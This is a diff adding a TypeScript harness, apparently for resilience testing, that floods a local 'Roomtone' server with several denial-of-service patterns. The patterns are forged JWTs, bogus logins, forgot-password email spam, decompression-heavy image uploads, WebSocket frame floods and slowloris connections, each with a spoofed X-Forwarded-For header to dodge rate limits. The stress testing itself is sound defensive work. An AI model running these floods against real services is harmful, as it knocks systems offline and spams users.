@@ -1,0 +1,134 @@
+// Floods a Roomtone on loopback, in a process of its own, until it is ended: `{flood, url}` starts one.
+import { connect } from 'node:net'
+import { setTimeout as sleep } from 'node:timers/promises'
+import sharp from 'sharp'
+import WebSocket from 'ws'
+
+/** Requests a second of one flood, so that the attacker does not take the machine itself away. */
+const PACE = 100
+const FRAMES_A_SECOND = 100
+const SLOW_CONNECTIONS = 300
+const PICTURES_AT_ONCE = 8
+const MEGAPIXELS_23 = { width: 5_750, height: 4_000 }
+
+/** Public addresses that the attacker owns. */
+const addressOf = (n: number): string => `198.51.100.${(n % 5) + 1}`
+
+const post = (url: string, body: object, n: number): Promise<Response> =>
+  fetch(url, {
+    method: 'POST',
+    headers: { 'content-type': 'application/json', 'x-forwarded-for': addressOf(n) },
+    body: JSON.stringify(body),
+  })
+
+/** Does something again and again at its pace, whatever becomes of it. */
+const paced = (perSecond: number, work: (n: number) => Promise<unknown>): void => {
+  let n = 0
+  setInterval(() => void work(n++).catch(() => undefined), 1000 / perSecond)
+}
+
+const base64 = (value: object): string => Buffer.from(JSON.stringify(value)).toString('base64url')
+
+const floods: Record<string, (url: string) => Promise<void> | void> = {
+  /** Tokens whose key has an impossible name. */
+  'forged tokens': (url) => {
+    const token = `${base64({ alg: 'RS256', kid: '\u0000key' })}.${base64({ sub: 'x' })}.c2lnbmF0dXJl`
+    const headers = { authorization: `Bearer ${token}` }
+    paced(PACE, async (n) => {
+      const answer = await fetch(`${url}/api/user-service/profile`, {
+        headers: { ...headers, 'x-forwarded-for': addressOf(n) },
+      })
+      await answer.text()
+    })
+  },
+  /** Passwords of accounts that are not there: each is hashed all the same. */
+  'wrong passwords': (url) => {
+    paced(PACE / 2, async (n) => {
+      const body = { email: `nobody-${n}@example.com`, password: 'wrong horse battery' }
+      await (await post(`${url}/api/user-service/auth/login`, body, n)).text()
+    })
+  },
+  /** Letters to strangers, asked for by ever new guests. */
+  letters: (url) => {
+    paced(PACE / 2, async (n) => {
+      const guest = await fetch(`${url}/api/user-service/auth/guest`, {
+        headers: { 'x-forwarded-for': addressOf(n) },
+      })
+      await guest.text()
+      const body = { email: `stranger-${n}@example.com` }
+      await (await post(`${url}/api/user-service/users/forgot-password`, body, n)).text()
+    })
+  },
+  /** Small files of many pixels. */
+  pictures: async (url) => {
+    const background = { r: 10, g: 120, b: 200 }
+    const image = sharp({ create: { ...MEGAPIXELS_23, channels: 3, background } })
+    const bytes = new Uint8Array(await image.png({ compressionLevel: 9 }).toBuffer())
+    const showAgain = async (n: number): Promise<void> => {
+      const email = `attacker-${n}@example.com`
+      const account = await post(
+        `${url}/api/user-service/users/sign-up`,
+        { email, password: 'correct horse battery' },
+        n,
+      )
+      const { accessToken } = (await account.json()) as { accessToken?: string }
+      for (;;) {
+        const form = new FormData()
+        form.append('kind', 'profile')
+        form.append('file', new File([bytes], 'large.png'))
+        await fetch(`${url}/api/user-service/users/images`, {
+          method: 'POST',
+          headers: { authorization: `Bearer ${accessToken}`, 'x-forwarded-for': addressOf(n) },
+          body: form,
+        })
+          .then((answer) => answer.text())
+          .catch(() => undefined)
+        await sleep(100)
+      }
+    }
+    for (let n = 0; n < PICTURES_AT_ONCE; n++) void showAgain(n)
+  },
+  /** Sockets with a bad token that say much. */
+  'socket frames': (url) => {
+    const frame = JSON.stringify({ event: 'noise', params: { text: 'x'.repeat(1000) } })
+    const open = (n: number): void => {
+      const socket = new WebSocket(`${url.replace('http', 'ws')}/primus?token=bad`, {
+        headers: { 'x-forwarded-for': addressOf(n) },
+      })
+      const talking = setInterval(() => {
+        if (socket.readyState === WebSocket.OPEN) socket.send(frame)
+      }, 1000 / FRAMES_A_SECOND)
+      socket.on('error', () => undefined)
+      socket.on('close', () => {
+        clearInterval(talking)
+        setTimeout(() => open(n), 200)
+      })
+    }
+    for (let n = 0; n < 20; n++) open(n)
+  },
+  /** Bodies that come a byte a second, and connections that say nothing. */
+  'slow bodies': (url) => {
+    const { hostname, port } = new URL(url)
+    const drip = (n: number): void => {
+      const socket = connect(Number(port), hostname)
+      const silent = n % 2 === 0
+      if (!silent)
+        socket.write(
+          `POST /api/user-service/auth/login HTTP/1.1\r\nhost: ${hostname}\r\nx-forwarded-for: ${addressOf(n)}\r\ncontent-length: 10000\r\n\r\n`,
+        )
+      const dripping = setInterval(() => socket.write(silent ? '' : ' '), 1000)
+      socket.on('error', () => undefined)
+      socket.on('data', () => undefined)
+      socket.on('close', () => {
+        clearInterval(dripping)
+        setTimeout(() => drip(n), 1000)
+      })
+    }
+    for (let n = 0; n < SLOW_CONNECTIONS; n++) drip(n)
+  },
+}
+
+process.on('message', ({ flood, url }: { flood: string; url: string }) => {
+  void Promise.resolve(floods[flood]?.(url)).then(() => process.send?.({ started: flood }))
+})
+process.send?.({ port: 0, floods: Object.keys(floods) })
